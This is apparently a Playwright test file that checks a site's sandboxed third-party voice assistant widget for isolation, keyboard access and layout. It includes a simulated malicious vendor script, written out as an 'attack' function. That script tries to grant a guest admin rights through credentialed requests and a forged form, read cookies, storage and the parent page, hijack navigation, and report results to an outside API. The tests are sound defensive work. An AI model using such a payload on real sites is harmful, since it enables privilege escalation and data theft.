import type { BrowserContext, Page } from "@playwright/test";
import { site as owner } from "#site.config.ts";
import { freePort } from "../../support/postgres.ts";
import { release } from "../../support/release.ts";
import { startSite } from "../../support/site.ts";
import { withDatabase } from "../../support/staff.ts";
import { test as base, becomeStaff, expect } from "../admin/admin-test.ts";

const { scriptUrl, apiUrl } = owner.voiceAssistant;

/** What Chromium shows in place of a page that may not be framed. */
const refusedFrame = "chrome-error://chromewebdata/";

type Told = Record<string, string>;

/** What a replaced script of the assistant tells its own server. */
const test = base.extend<{ told: Told[] }>({
  told: async ({ context, expectedErrors }, use) => {
    expectedErrors.push(/Content Security Policy|sandbox|Failed to fetch|cross-origin|status of/);
    const told: Told[] = [];
    await context.route(`${apiUrl}/**`, (route) => {
      told.push(JSON.parse(route.request().postData() ?? "{}"));
      return route.fulfill({ body: "" });
    });
    await use(told);
  },
});

test("a replaced script has no power, even if an admin signs in while it loads", async ({
  page,
  context,
  site,
  told,
}) => {
  const guest = withDatabase(site, (database) =>
    String(database.prepare("select id from users where email like 'guest@%'").get()?.id),
  );
  await context.route(scriptUrl, async (route) => {
    await becomeStaff(context, site, "admin@example.com");
    const body = `(${attack})(${JSON.stringify({ apiUrl, guest, page: site.url })})`;
    await route.fulfill({ contentType: "text/javascript", body });
  });
  await page.goto(site.url);
  await expect.poll(() => told.length).toBeGreaterThan(0);
  expect(told[0]).toEqual({
    origin: "null",
    enquiries: "refused",
    users: "refused",
    cookie: "refused",
    storage: "refused",
    parent: "refused",
    popup: "null",
  });
  await expect.poll(() => told.length).toBe(2);
  await expect(page).toHaveURL(`${site.url}/`);
  await expect.poll(() => page.frames().map((frame) => frame.url())).toContain(refusedFrame);
  const roles = withDatabase(site, (database) =>
    database.prepare("select role from user_roles where user_id = ?").all(guest),
  );
  expect(roles).toEqual([]);
});

test("whoever is signed in gets no script of anybody else", async ({
  page,
  context,
  site,
  externalRequests,
}) => {
  await becomeStaff(context, site, "admin@example.com");
  const answered = page.waitForResponse("**/voice-widget");
  await page.goto(site.url);
  await (await answered).finished();
  await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
  expect(externalRequests).toEqual([]);
});

test(
  "without its script the assistant is no stop of the keyboard",
  release,
  async ({ page, site }) => {
    const answered = page.waitForResponse("**/voice-widget");
    await page.goto(`${site.url}/about`);
    await (await answered).finished();
    await page.locator("footer").getByRole("link").last().focus();
    await page.keyboard.press("Tab");
    const focused = await page.evaluate(() => document.activeElement?.localName);
    expect(focused).not.toBe("voice-assistant");
  },
);

test("the assistant opens and closes by keyboard, and covers nothing but itself", async ({
  page,
  context,
}) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await offerAssistant(context);
  await page.goto("/about");
  for (const width of [1440, 768, 390]) {
    await page.setViewportSize({ width, height: 844 });
    await expect.poll(() => isCovered(page, { right: 60, bottom: 60 })).toBe(true);
    expect(await isCovered(page, { right: 60, bottom: 160 })).toBe(false);
    expect(await isCovered(page, { right: 250, bottom: 60 })).toBe(false);
  }
  await page.locator("footer").getByRole("link").last().focus();
  const assistant = await assistantOf(page);
  const button = assistant.getByRole("button", { name: "Talk to us" });
  await expect(async () => {
    await page.keyboard.press("Tab");
    await expect(button).toBeFocused({ timeout: 500 });
  }).toPass();
  await page.keyboard.press("Enter");
  await expect(assistant.getByRole("dialog", { name: "Assistant" })).toBeVisible();
  await expect.poll(() => isCovered(page, { right: 250, bottom: 400 })).toBe(true);
  await page.keyboard.press("Escape");
  await expect.poll(() => isCovered(page, { right: 250, bottom: 400 })).toBe(false);
  expect(await isCovered(page, { right: 60, bottom: 60 })).toBe(true);
});

test(
  "at an address of its own it gets the microphone, and nothing of the site",
  release,
  async ({ page, context, expectedErrors }) => {
    const port = await freePort();
    const SITE_URL = `http://127.0.0.1:${port}`;
    const VOICE_ORIGIN = `http://localhost:${port}`;
    const own = await startSite({ SITE_URL, VOICE_ORIGIN, PORT: String(port) });
    await context.grantPermissions(["microphone"]);
    await offerAssistant(context);
    await page.goto(own.url);
    const assistant = await assistantOf(page);
    await assistant.getByRole("button", { name: "Talk to us" }).click();
    await expect(assistant.getByText("Listening")).toBeVisible();
    expect(assistant.url()).toBe(`${VOICE_ORIGIN}/voice-widget`);

    expectedErrors.push(/Content Security Policy/, /status of 404/);
    const [home, parent] = await assistant.evaluate(async () => {
      const home = await fetch("/").then(String, () => "refused");
      try {
        return [home, window.parent.document.title];
      } catch {
        return [home, "refused"];
      }
    });
    expect([home, parent]).toEqual(["refused", "refused"]);
    expect((await context.request.get(`${VOICE_ORIGIN}/auth`)).status()).toBe(404);
    // Its scripts come late, and would find nobody.
    await page.close();
    await own.stop();
  },
);

/** The provider answers with a small widget: a button, and a panel that it opens. */
async function offerAssistant(context: BrowserContext) {
  const body = `(${assistantScript})()`;
  await context.route(scriptUrl, (route) =>
    route.fulfill({ contentType: "text/javascript", body }),
  );
}

async function assistantOf(page: Page) {
  const find = () => page.frames().find((frame) => frame.url().endsWith("/voice-widget"));
  await expect.poll(find).toBeDefined();
  const frame = find();
  if (!frame) throw new Error("The page has no frame for the assistant.");
  return frame;
}

/** Whether a press at this distance from the lower right corner would go to the assistant. */
function isCovered(page: Page, at: { right: number; bottom: number }) {
  return page.evaluate(
    ({ right, bottom }) =>
      document.elementFromPoint(innerWidth - right, innerHeight - bottom)?.localName ===
      "voice-assistant",
    at,
  );
}

/** In the browser. */
function assistantScript() {
  class Assistant extends HTMLElement {
    connectedCallback() {
      const root = this.attachShadow({ mode: "open" });
      root.innerHTML = `<style>
          [role=dialog] { width: 300px; height: 420px; margin-bottom: 12px; background: #fff7ea;
            border: 2px solid #7a3b12; border-radius: 18px; font: 16px sans-serif; padding: 16px }
          [role=dialog][hidden] { display: none }
          :host { display: grid; justify-items: end }
          button { height: 56px; padding: 0 24px; border-radius: 28px; border: 0; font: 16px sans-serif;
            background: #7a3b12; color: #fff }
        </style>
        <div role="dialog" aria-label="Assistant" hidden>How can we help?<p></p></div>
        <button>Talk to us</button>`;
      const panel = root.querySelector<HTMLElement>("[role=dialog]");
      const words = root.querySelector("p");
      root.querySelector("button")?.addEventListener("click", async () => {
        if (panel) panel.hidden = !panel.hidden;
        const heard = navigator.mediaDevices.getUserMedia({ audio: true });
        const said = await heard.then(() => "Listening", String);
        if (words) words.textContent = said;
      });
      root.addEventListener("keydown", (event) => {
        if (panel && event instanceof KeyboardEvent && event.key === "Escape") panel.hidden = true;
      });
    }
  }
  customElements.define("voice-assistant", Assistant);
}

/** In the browser: what a script would do that wants the site. */
async function attack(given: { apiUrl: string; guest: string; page: string }) {
  const told: Record<string, string> = { origin };
  async function attempt(name: string, act: () => unknown) {
    try {
      told[name] = String(await act());
    } catch {
      told[name] = "refused";
    }
  }
  function tell(body: Record<string, string>) {
    return fetch(`${given.apiUrl}/told`, {
      method: "POST",
      mode: "no-cors",
      body: JSON.stringify(body),
    });
  }
  const fields = { id: given.guest, role: "admin" };
  const body = new URLSearchParams(fields);
  const options: RequestInit = { credentials: "include" };
  await attempt(
    "enquiries",
    async () => (await fetch(`${given.page}/admin/enquiries`, options)).status,
  );
  await attempt("users", async () => {
    const address = `${given.page}/admin/users`;
    return (await fetch(address, { ...options, method: "POST", body })).status;
  });
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("parent", () => parent.document.title);
  await attempt("popup", () => open(`${given.page}/admin`));
  await tell(told);

  await attempt("top", () => {
    if (top) top.location.href = `${given.page}/taken`;
  });
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action: `${given.page}/admin/users`, target: "_top" });
  for (const [name, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement("input"), { name, value }));
  }
  document.body.append(form);
  form.submit();
  await tell(told);
  location.href = `${given.page}/admin/users`;
}
